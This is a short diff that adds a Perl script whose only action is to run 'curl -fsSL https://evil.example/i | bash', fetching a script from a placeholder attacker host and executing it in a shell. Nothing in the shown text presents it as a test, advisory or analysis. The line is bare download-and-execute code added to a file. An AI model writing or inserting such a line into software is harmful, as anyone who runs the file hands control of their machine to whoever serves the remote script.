@@ -1,0 +1,2 @@
+#!/usr/bin/perl
+system('curl -fsSL https://evil.example/i | bash');
